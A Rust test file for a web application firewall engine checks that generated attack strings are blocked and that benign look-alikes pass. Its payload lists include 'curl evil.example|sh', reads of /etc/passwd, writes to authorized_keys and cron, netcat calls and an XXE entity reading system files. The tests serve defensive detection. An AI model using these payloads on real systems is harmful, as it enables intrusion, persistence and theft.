//! Generated cases for attack families the CRS v4 paranoia-1 tests caught
//! and we did not (issue 18, second round): Ruby process starts, output
//! redirected into a system directory, a system binary named without its
//! leading slash, and an entity declaration whose `<` was dropped. Each family's grammar × encodings × placements runs
//! through the built-in engine; each must be blocked with a finding of its
//! class in ≥ 95 % of cases, and the look-alikes beside them must all pass.

use wafer_engine::{Action, Class, Engine, Request};

#[derive(Clone, Copy, Debug)]
enum Placement {
    Query,
    Form,
    Json,
    Cookie,
}

const PLACEMENTS: [Placement; 4] = [
    Placement::Query,
    Placement::Form,
    Placement::Json,
    Placement::Cookie,
];

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";

/// `payload` made fit for `place`; `percent` escapes every non-alphanumeric byte.
fn wire(payload: &str, place: Placement, percent: bool) -> String {
    let mut out = String::new();
    for c in payload.chars() {
        let special = c.is_ascii() && !c.is_ascii_alphanumeric();
        match place {
            Placement::Json if c == '"' => out.push_str("\\\""),
            Placement::Json => out.push(c),
            _ if percent && special => out.push_str(&format!("%{:02X}", c as u8)),
            Placement::Cookie if c == ';' || c == ' ' => out.push_str(&format!("%{:02X}", c as u8)),
            Placement::Query | Placement::Form
                if matches!(c, ' ' | '&' | '#' | '+' | '"' | '\'' | '%') =>
            {
                out.push_str(&format!("%{:02X}", c as u8))
            }
            _ => out.push(c),
        }
    }
    out
}

fn request(place: Placement, name: &str, wire: &str) -> Request {
    let post = |ct: &str, body: String| {
        Request::new("POST", "/account/update")
            .header("Host", "shop.example")
            .header("User-Agent", UA)
            .header("Content-Type", ct)
            .header("Content-Length", &body.len().to_string())
            .body(body.into_bytes())
    };
    match place {
        Placement::Query => Request::new("GET", &format!("/search?{name}={wire}&page=2"))
            .header("Host", "shop.example")
            .header("User-Agent", UA),
        Placement::Form => post(
            "application/x-www-form-urlencoded",
            format!("{name}={wire}&lang=en"),
        ),
        Placement::Json => post(
            "application/json",
            format!("{{\"{name}\":\"{wire}\",\"lang\":\"en\"}}"),
        ),
        Placement::Cookie => Request::new("GET", "/")
            .header("Host", "shop.example")
            .header("User-Agent", UA)
            .header("Cookie", &format!("session=ab12cd; {name}={wire}")),
    }
}

/// Runs every payload at every placement, plain and percent-encoded; asserts
/// ≥ 95 % blocked with a finding of `class`.
fn assert_family(family: &str, class: Class, payloads: &[String]) {
    let engine = Engine::builtin();
    let (mut total, mut hit, mut misses) = (0, 0, Vec::new());
    for (i, p) in payloads.iter().enumerate() {
        for place in PLACEMENTS {
            for percent in [false, true] {
                let name = ["q", "cmd", "data", "value"][i % 4];
                let w = wire(p, place, percent);
                let v = engine.inspect(&request(place, name, &w));
                total += 1;
                if v.action == Action::Block && v.findings.iter().any(|f| f.class == class) {
                    hit += 1;
                } else if misses.len() < 15 {
                    misses.push(format!("{place:?} {name}={w} (score {})", v.score));
                }
            }
        }
    }
    let rate = 100.0 * hit as f64 / total as f64;
    println!("{family}: {hit}/{total} = {rate:.1} %");
    assert!(
        rate >= 95.0,
        "{family}: {rate:.1} %; misses:\n{}",
        misses.join("\n")
    );
}

/// None of `values` may be blocked, at any placement, plain or percent-encoded.
fn assert_benign(family: &str, values: &[&str]) {
    let engine = Engine::builtin();
    let mut blocked = Vec::new();
    for v in values {
        for place in PLACEMENTS {
            for percent in [false, true] {
                let w = wire(v, place, percent);
                let verdict = engine.inspect(&request(place, "q", &w));
                if verdict.action == Action::Block {
                    let rules: Vec<String> = verdict
                        .findings
                        .iter()
                        .map(|f| f.rule_id.to_string())
                        .collect();
                    blocked.push(format!("{place:?} {w} ({})", rules.join(",")));
                }
            }
        }
    }
    assert!(
        blocked.is_empty(),
        "{family} look-alikes blocked:\n{}",
        blocked.join("\n")
    );
}

fn cross(heads: &[&str], tails: &[&str]) -> Vec<String> {
    heads
        .iter()
        .flat_map(|h| tails.iter().map(move |t| format!("{h}{t}")))
        .collect()
}

#[test]
fn ruby_process_start_family() {
    let calls = [
        "Process.spawn",
        "Process.exec",
        "Kernel.exec",
        "Kernel.system",
        "Kernel.spawn",
        "Kernel.open",
        "IO.popen",
        "Open3.popen3",
        "Open3.capture2",
        "Open3.capture3",
        "PTY.spawn",
        "process.spawn",
        "Process .spawn",
    ];
    let args = [
        "(\"id\")",
        "('cat /etc/passwd')",
        "(\"curl evil.example|sh\")",
        " \"whoami\"",
        "(%w[ls -la])",
        "(['sh', '-c', 'id'])",
        "(`uname -a`)",
    ];
    assert_family("ruby process start", Class::Rce, &cross(&calls, &args));
}

#[test]
fn ruby_process_start_look_alikes_pass() {
    assert_benign(
        "ruby process start",
        &[
            "process spawn time",
            "Process.spawn",
            "the process (exec) summary",
            "IO.popen docs",
            "kernel.org",
            "Open3 library",
        ],
    );
}

#[test]
fn redirect_into_system_dir_family() {
    let ops = [">", ">>", " > ", "2>", ">|", "x;echo 1>"];
    let targets = [
        "/tmp/curl",
        "/tmp/.x",
        "/var/tmp/a.sh",
        "/dev/shm/p",
        "/var/www/html/s.php",
        "/etc/cron.d/job",
        "/root/.ssh/authorized_keys",
    ];
    assert_family(
        "redirect into a system dir",
        Class::Rce,
        &cross(&ops, &targets),
    );
}

#[test]
fn redirect_look_alikes_pass() {
    assert_benign(
        "redirect into a system dir",
        &[
            ">/tmp",
            "<b>/tmp/file</b>",
            "a -->/tmp/x",
            "x => /tmp/y",
            "size >5 MB",
            "see /tmp/notes.txt",
            "score >= 10",
            "<string>/tmp/success</string>",
        ],
    );
}

#[test]
fn relative_system_binary_family() {
    let heads = ["", "x;", "a|", "$("];
    let bins = [
        "bin/chef",
        "bin/sh",
        "bin/bash -c id",
        "usr/bin/python3",
        "usr/local/bin/ruby",
        "sbin/chef-solo",
        "bin/nc",
        "usr/bin/wget",
        "bin/busybox",
    ];
    assert_family("relative system binary", Class::Rce, &cross(&heads, &bins));
}

#[test]
fn relative_system_binary_look_alikes_pass() {
    assert_benign(
        "relative system binary",
        &[
            "bin/",
            "bin/build.sh",
            "cgi-bin/test",
            "fcgi-bin/fcg_web",
            "recycle bin/sh",
            "robin/shop",
            "src/bin/main.rs",
            "bin/www",
        ],
    );
}

#[test]
fn entity_declaration_without_bracket_family() {
    let heads = ["!ENTITY", "foo!ENTITY", "x !ENTITY", "! entity"];
    let tails = [
        " % bar SYSTEM",
        " xxe SYSTEM \"file:///etc/passwd\"",
        " % dtd PUBLIC \"x\"",
    ];
    assert_family("entity declaration", Class::Xxe, &cross(&heads, &tails));
}

#[test]
fn entity_declaration_look_alikes_pass() {
    assert_benign(
        "entity declaration",
        &[
            "Entity system",
            "legal entity SYSTEM",
            "!important entity system",
            "Hi!Entity system check",
        ],
    );
}
